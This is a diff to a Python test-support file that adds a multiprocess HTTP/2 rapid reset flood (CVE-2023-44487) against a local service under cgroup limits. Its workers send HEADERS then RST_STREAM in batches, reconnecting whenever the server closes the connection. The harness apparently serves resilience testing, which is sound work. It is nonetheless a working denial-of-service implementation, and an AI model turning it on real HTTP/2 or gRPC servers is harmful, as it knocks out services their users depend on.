@@ -3,15 +3,19 @@ own cgroup at the small profile's limits (0.5 CPU, 512 MiB), its memory peak rea
 connection (the h2 library) for frames no well-behaved client sends."""
 
 import contextlib
+import multiprocessing
 import os
 import socket
+import ssl
 import time
 from collections.abc import Iterator
 from dataclasses import dataclass
+from typing import Any
 
 import h2.config
 import h2.connection
 import h2.events
+import h2.exceptions
 import pytest
 from labrunner.backends.cgroups import (
     Cgroup,
@@ -22,7 +26,7 @@ from labrunner.backends.cgroups import (
     reset_memory_peak,
 )
 
-from tests.support import RunningService, launch_service
+from tests.support import CERTS, RunningService, launch_service
 
 CPUS = 0.5  # matrix.toml profile "small"
 MEMORY_BYTES = 512 * 2**20
@@ -140,3 +144,96 @@ class RawH2:
     def close(self) -> None:
         with contextlib.suppress(OSError):
             self.sock.close()
+
+
+def client_ssl_context(alpn: list[str]) -> ssl.SSLContext:
+    """A TLS client context that trusts the lab's CA (as every lab client does) and offers alpn."""
+    context = ssl.create_default_context(cafile=str(CERTS / "ca.pem"))
+    context.set_alpn_protocols(alpn)
+    return context
+
+
+@dataclass(frozen=True)
+class Flood:
+    """HTTP/2 rapid reset (CVE-2023-44487) from `connections` processes (their own GIL, at the lowest
+    priority, so the health checks of the test's process are not starved by the flood's): each sends
+    HEADERS then RST_STREAM for stream after stream, reconnecting whenever the server closes its
+    connection."""
+
+    port: int
+    tls: bool
+    path: str
+    grpc: bool
+    connections: int = 2
+
+    @contextlib.contextmanager
+    def running(self) -> Iterator["FloodCounts"]:
+        spawn = multiprocessing.get_context("spawn")
+        counts = FloodCounts(spawn.Value("q", 0), spawn.Value("q", 0))
+        stop = spawn.Event()
+        processes = [
+            spawn.Process(target=_flood, args=(self, counts, stop), daemon=True)
+            for _ in range(self.connections)
+        ]
+        for process in processes:
+            process.start()
+        try:
+            yield counts
+        finally:
+            stop.set()
+            for process in processes:
+                process.join(timeout=10)
+                if process.is_alive():
+                    process.kill()
+
+
+@dataclass(frozen=True)
+class FloodCounts:
+    streams: Any  # multiprocessing Values: streams opened and connections made, over all processes
+    connects: Any
+
+
+def _flood(flood: Flood, counts: FloodCounts, stop: Any) -> None:
+    # An attacker's CPU is its own; here it shares the host's 2 vCPUs with the server and the health
+    # checks, so it yields to them instead of measuring the host's contention.
+    os.nice(10)
+    scheme = "https" if flood.tls else "http"
+    common = [(":scheme", scheme), (":path", flood.path), (":authority", "localhost")]
+    if flood.grpc:
+        headers = [(":method", "POST"), *common, ("content-type", "application/grpc"), ("te", "trailers")]
+    else:
+        headers = [(":method", "GET"), *common]
+    while not stop.is_set():
+        with contextlib.suppress(OSError, h2.exceptions.H2Error):
+            _flood_connection(flood, headers, counts, stop)
+
+
+def _flood_connection(flood: Flood, headers: list[tuple[str, str]], counts: FloodCounts, stop: Any) -> None:
+    sock = socket.create_connection(("127.0.0.1", flood.port), timeout=5)
+    try:
+        if flood.tls:
+            sock = client_ssl_context(["h2"]).wrap_socket(sock, server_hostname="localhost")
+        conn = h2.connection.H2Connection(
+            h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
+        )
+        conn.initiate_connection()
+        sock.sendall(conn.data_to_send())
+        with counts.connects.get_lock():
+            counts.connects.value += 1
+        while not stop.is_set():
+            for _ in range(50):
+                stream_id = conn.get_next_available_stream_id()
+                conn.send_headers(stream_id, headers, end_stream=not flood.grpc)
+                conn.reset_stream(stream_id)
+            sock.setblocking(True)
+            sock.sendall(conn.data_to_send())
+            with counts.streams.get_lock():
+                counts.streams.value += 50
+            sock.setblocking(False)
+            with contextlib.suppress(BlockingIOError, ssl.SSLWantReadError):
+                while data := sock.recv(65536):
+                    conn.receive_data(data)
+                return  # b"": the server closed the connection
+    finally:
+        with contextlib.suppress(OSError):
+            sock.close()
